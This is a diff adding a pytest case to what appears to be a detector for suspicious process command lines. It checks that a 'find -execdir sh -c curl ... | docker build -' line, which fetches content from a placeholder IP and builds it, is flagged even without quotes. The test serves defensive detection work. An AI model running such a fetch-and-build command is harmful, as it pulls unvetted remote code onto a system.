@@ -90,3 +90,10 @@ def test_one_notion_of_what_a_command_starts(vector: dict[str, Any]) -> None:
     assert "D" in of_parent(f"bash -c {shlex.quote(f'{runs}; docker build -t a .')}")
     assert fed(own)
     assert fed(parents)
+
+
+def test_what_a_search_starts_is_read_without_its_quotes() -> None:
+    """Recorders leave them out."""
+    line = "find /x -execdir sh -c curl -s http://198.51.100.7/D | docker build -"
+
+    assert fed({"FileName": "find", "ProcessCommandLine": line})
